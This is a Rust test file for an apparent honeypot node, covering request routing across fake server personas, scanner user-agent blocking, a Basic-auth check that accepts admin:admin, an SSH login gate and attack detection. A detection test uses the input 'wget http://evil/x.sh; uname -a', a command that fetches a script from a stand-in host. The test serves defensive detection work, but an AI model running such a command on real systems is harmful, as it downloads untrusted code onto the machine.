//! Behavioural properties of routing, detection and the SSH gate

use chrono::{TimeZone, Utc};
use honeypot_node::artifact::{self, simple};
use honeypot_node::detection::{detect_http, detect_ssh, AttackTag};
use honeypot_node::freshness::{RenderContext, UptimeClock};
use honeypot_node::iot_auth;
use honeypot_node::personas::{all_personas, fixed};
use honeypot_node::profile_filter::{MissingConfigPolicy, ProfileFilter};
use honeypot_node::router::{build_endpoint_table, EndpointTable, Router};
use honeypot_node::ssh::{AuthDecision, AuthGate};
use hyper::StatusCode;
use proptest::prelude::*;

fn frozen_ctx() -> RenderContext {
    let now = Utc.with_ymd_and_hms(2024, 6, 1, 12, 0, 0).unwrap();
    RenderContext::frozen(UptimeClock::starting_at(now - chrono::Duration::days(60)), now, 7)
}

fn full_router(profile: &str) -> Router {
    Router::new(
        build_endpoint_table(all_personas()),
        ProfileFilter::builtin(profile),
        UptimeClock::starting_at(Utc::now()),
    )
}

#[test]
fn test_prefix_requires_separator() {
    let mut table = EndpointTable::new();
    table.insert("/api/v1/users", fixed(simple(StatusCode::OK, "application/json", "[]")));
    let router = Router::new(table, ProfileFilter::builtin("all"), UptimeClock::starting_at(Utc::now()));

    assert_eq!(router.resolve("/api/v1/users/42", None).status, StatusCode::OK);
    assert_eq!(router.resolve("/api/v1/usersX", None), artifact::not_found());
}

#[test]
fn test_wordpress_profile_hides_api_paths() {
    let router = full_router("wordpress");
    let gated = router.resolve("/actuator/health", None);
    let unregistered = router.resolve("/no/such/path", None);
    assert_eq!(gated.to_bytes(), unregistered.to_bytes());
    assert_eq!(gated.status, StatusCode::NOT_FOUND);

    assert_eq!(full_router("api").resolve("/actuator/health", None).status, StatusCode::OK);
}

#[test]
fn test_query_keyword_does_not_unhide_path() {
    let router = full_router("wordpress");
    let plain = router.resolve("/actuator/health", None);
    for decorated in ["/actuator/health?x=/wp-", "/actuator/health#/wp-admin", "/actuator/health?next=/wp-login.php#top"] {
        assert_eq!(router.resolve(decorated, None), plain, "{}", decorated);
    }
    assert_eq!(plain.status, StatusCode::NOT_FOUND);
}

#[test]
fn test_merge_order_under_all_profile() {
    // iot_tapo registers "/" after the generic and iot personas
    let router = full_router("all");
    let root = router.resolve("/", None);
    assert_eq!(root.status, StatusCode::METHOD_NOT_ALLOWED);
    assert_eq!(root.body_text(), "{\"error_code\": -40401}");
}

#[test]
fn test_scanner_beats_registered_path() {
    let router = full_router("all");
    for ua in ["Nikto/2.1.6", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "gobuster/3.1"] {
        let artifact = router.resolve("/wp-login.php", Some(ua));
        assert_eq!(artifact.status, StatusCode::FORBIDDEN, "{}", ua);
        assert!(artifact.body_text().contains("WAF Blocked"));
    }
}

#[test]
fn test_fail_policies_for_missing_keyword_source() {
    let open = ProfileFilter::unavailable("wordpress", MissingConfigPolicy::FailOpen);
    let closed = ProfileFilter::unavailable("wordpress", MissingConfigPolicy::FailClosed);
    assert!(open.is_allowed("/actuator/health"));
    assert!(!closed.is_allowed("/wp-login.php"));
}

#[test]
fn test_basic_auth_allow_list() {
    assert!(iot_auth::check(Some("Basic YWRtaW46YWRtaW4=")));
    // admin:wrong
    assert!(!iot_auth::check(Some("Basic YWRtaW46d3Jvbmc=")));
    assert!(!iot_auth::check(Some("YWRtaW46YWRtaW4=")));
    assert!(!iot_auth::check(Some("Basic !!!not-base64!!!")));
    // "adminadmin" with no separator
    assert!(!iot_auth::check(Some("Basic YWRtaW5hZG1pbg==")));
    assert!(!iot_auth::check(None));
}

#[test]
fn test_ssh_gate_scenario() {
    let mut gate = AuthGate::new(2);
    assert_eq!(gate.submit("root", "x"), AuthDecision::Rejected);
    assert_eq!(gate.submit("admin", "y"), AuthDecision::Authenticated);
    assert_eq!(gate.identity(), Some("admin"));
}

#[test]
fn test_ssh_families() {
    assert_eq!(
        detect_ssh("wget http://evil/x.sh; uname -a"),
        vec![AttackTag::SuspiciousCommand, AttackTag::Reconnaissance]
    );
}

proptest! {
    #[test]
    fn detection_is_pure(text in ".{0,200}") {
        prop_assert_eq!(detect_http(&text), detect_http(&text));
        prop_assert_eq!(detect_ssh(&text), detect_ssh(&text));
    }

    #[test]
    fn query_and_fragment_do_not_change_artifact(
        profile in prop::sample::select(vec![
            "all", "generic", "wordpress", "api", "database", "iot", "iot_tapo", "devops",
        ]),
        path in prop::sample::select(vec![
            "/admin", "/wp-login.php", "/api/v1/users", "/.env",
            "/userRpm/LoginRpm.htm", "/phpmyadmin", "/nothing",
        ]),
        query in "[a-z0-9=&/._-]{0,16}",
        fragment in "[a-z0-9]{0,8}",
    ) {
        let router = full_router(profile);
        let decorated = format!("{}?{}#{}", path, query, fragment);
        let plain = router.resolve_with(path, None, &mut frozen_ctx());
        let with_query = router.resolve_with(&decorated, None, &mut frozen_ctx());
        prop_assert_eq!(plain, with_query);
    }
}
